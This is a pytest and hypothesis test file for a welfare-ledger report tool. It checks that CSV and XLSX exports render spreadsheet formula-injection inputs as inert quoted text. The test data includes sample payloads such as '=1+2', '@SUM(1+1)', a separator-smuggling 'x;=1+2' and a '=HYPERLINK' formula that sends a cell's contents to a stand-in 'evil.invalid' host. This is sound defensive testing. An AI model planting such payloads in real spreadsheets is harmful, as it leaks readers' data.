"""CSV and XLSX reports open in a spreadsheet as data: no cell is a formula, numbers stay numbers.

The book `books/formulas.beancount` writes receipts such as `=1+2`, `@SUM(1+1)`, `+1+2`,
`-2+3`, a tab or a space before `=`, a full-width `＝`, `x;=1+2` (a second cell for a reader
that splits on `;`: it gets its apostrophe after the `;`), a payee `=HYPERLINK(...)` and document names starting with `=`, `-`
and `@`; beside them the legal neighbours `-5`, `A-1 Shop`, `2566-0001` and a negative amount.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from welfare_ledger.scripts.reports.sheets import csv_text, xlsx_bytes

HOSTILE_RECEIPTS = ["=1+2", "@SUM(1+1)", "+1+2", "-2+3", "\t=1+2", " =1+2", "＝1+2"]
# As the CSV writes them: an apostrophe first, and another after a tab (a cell boundary to some readers).
MARKED = {r: "'" + r for r in HOSTILE_RECEIPTS} | {"\t=1+2": "'\t'=1+2"}
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"Open")'
STARTS = tuple("=+-@＝＋－＠")
NUMBERS_RUN_TOGETHER = re.compile(r"[-+0-9.,\"\s]*")


def evaluated(cell: str) -> bool:
    """Whether Excel or LibreOffice could take a CSV cell for a formula (a plain number is data)."""
    if not cell:
        return False
    try:
        Decimal(cell)
    except ArithmeticError:
        pass
    else:
        return False
    return cell[0] in "\t\r\n" or cell.lstrip(" \u00a0\u3000\t\r\n").startswith(STARTS)


def csv_cells(text: str, delimiter: str) -> list[str]:
    """The cells a reader splitting on `delimiter` sees; on another separator than ours, a row
    runs together into cells such as `-5,-1.50`, which hold only our numbers and are left out."""
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    return cells if delimiter == "," else [c for c in cells if not NUMBERS_RUN_TOGETHER.fullmatch(c)]


@pytest.fixture
def book(books):
    return books / "formulas.beancount"


def member_csv(run, book) -> str:
    return run(
        "report", "member", book, "--member", "BM-0001", "--as-of", "2024-12-31", "--format", "csv"
    ).stdout


def test_member_csv_receipts_are_text_and_amounts_numbers(run, book):
    text = member_csv(run, book)
    rows = list(csv.DictReader(io.StringIO(text)))
    receipts = [row["receipt"] for row in rows]
    for hostile in HOSTILE_RECEIPTS:
        assert MARKED[hostile] in receipts, hostile
    assert "x;'=1+2" in receipts and "-5" in receipts and "2566-0001" in receipts
    refund = next(row for row in rows if row["document"] == "'@refund.pdf")
    assert refund["amount"] == "-100.00"
    assert "\n2023-03-05" not in text and ',-100.00,"' in text  # dates quoted, the amount a bare number
    for delimiter in ",;\t":
        assert not [c for c in csv_cells(text, delimiter) if evaluated(c)], delimiter


def test_disclosure_csv_payee_and_documents_cannot_run(run, book):
    text = run(
        "report", "disclosure", book, "--area", "BangMueang", "--month", "2023-04", "--format", "csv"
    ).stdout
    rows = {row["date"]: row for row in csv.DictReader(io.StringIO(text))}
    tent = rows["2023-04-12"]
    assert tent["payee"] == "'" + HYPERLINK
    assert tent["document"] == "'" + '=HYPERLINK("http://evil.invalid","x").pdf'
    assert tent["amount"] == "300.00"
    chairs = rows["2023-04-15"]
    assert (chairs["payee"], chairs["document"]) == ("A-1 Shop", "'-chairs.pdf")
    for delimiter in ",;\t":
        assert not [c for c in csv_cells(text, delimiter) if evaluated(c)], delimiter


def sheet_formulas(path) -> list[str]:
    """Every `<f>` (formula) element in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


def test_member_xlsx_keeps_the_exact_text_as_strings(run, book, tmp_path):
    target = tmp_path / "member.xlsx"
    run(
        "report",
        "member",
        book,
        "--member",
        "BM-0001",
        "--as-of",
        "2024-12-31",
        "--format",
        "xlsx",
        "--output",
        target,
    )
    assert sheet_formulas(target) == []
    sheet = openpyxl.load_workbook(target).active
    header = [c.value for c in sheet[1]]
    receipt, amount, day = header.index("receipt"), header.index("amount"), header.index("date")
    cells = {row[receipt].value: row for row in sheet.iter_rows(min_row=2) if row[receipt].value}
    for hostile in HOSTILE_RECEIPTS:
        cell = cells[hostile][receipt]
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", hostile, True), hostile
    for legal in ("-5", "2566-0001", "x;=1+2"):
        assert cells[legal][receipt].data_type == "s"
    assert cells["2566-0001"][receipt].quotePrefix is False
    refund = next(
        row for row in sheet.iter_rows(min_row=2) if row[header.index("document")].value == "@refund.pdf"
    )
    assert (refund[amount].data_type, refund[amount].value) == ("n", -100)
    assert refund[amount].number_format == "#,##0.00"
    assert refund[day].is_date and refund[day].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert all(c.font.b for c in sheet[1])


def test_disclosure_xlsx_every_sheet_without_formulas(run, book, tmp_path):
    target = tmp_path / "notice.xlsx"
    run(
        "report",
        "disclosure",
        book,
        "--area",
        "BangMueang",
        "--month",
        "2023-04",
        "--format",
        "xlsx",
        "--output",
        target,
    )
    assert sheet_formulas(target) == []
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames == ["outflows", "categories", "findings"]
    outflows = workbook["outflows"]
    payees = [row[2] for row in outflows.iter_rows(min_row=2, values_only=True)]
    assert HYPERLINK in payees
    assert all(sheet.freeze_panes == "A2" for sheet in workbook)


def test_areas_xlsx_amounts_are_formatted_numbers(run, small_book, tmp_path):
    target = tmp_path / "areas.xlsx"
    run("report", "areas", small_book, "--year", "2023", "--format", "xlsx", "--output", target)
    sheet = openpyxl.load_workbook(target).active
    header = [c.value for c in sheet[1]]
    total = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "TOTAL")
    members = total[header.index("members")]
    fund = total[header.index("fund_balance")]
    assert (members.data_type, members.number_format) == ("n", "0")
    assert (fund.data_type, fund.number_format) == ("n", "#,##0.00")
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= len("TOTAL")


text_cells = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@＝＋－＠ \t\r\n;,\"'0123456789.e"), st.characters(exclude_categories=("Cs",))
    ),
    max_size=12,
)


@settings(max_examples=300, deadline=None)
@given(st.lists(text_cells, min_size=1, max_size=4))
@example(["=1+2", "x;=1+2", "-5", "a\n+b"])
def test_any_text_is_inert_in_csv_and_comes_back_exactly(values):
    text = csv_text(pd.DataFrame({"payee": values, "amount": [Decimal("-1.50")] * len(values)}))
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [row[1] for row in rows] == ["-1.50"] * len(values)
    for value, row in zip(values, rows, strict=True):
        assert row[0].replace("'", "") == value.replace("'", "")
    for delimiter in ",;\t":
        assert not [c for c in csv_cells(text, delimiter) if evaluated(c)]


@settings(max_examples=60, deadline=None)
@given(st.lists(text_cells.filter(lambda t: t.strip()), min_size=1, max_size=3))
@example(["=1+2", "-5", " @x"])
def test_any_text_is_a_string_cell_in_xlsx(values):
    target = io.BytesIO(xlsx_bytes({"t": pd.DataFrame({"payee": values})}))
    assert sheet_formulas(target) == []
    sheet = openpyxl.load_workbook(target).active
    for value, (cell,) in zip(values, sheet.iter_rows(min_row=2), strict=True):
        assert cell.data_type == "s"
        expected = "".join("\ufffd" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in value)
        assert lines(cell.value) == lines(expected)


def lines(text: str) -> str:
    """XML reads a carriage return as a line feed; the text is otherwise exact."""
    return text.replace("\r\n", "\n").replace("\r", "\n")
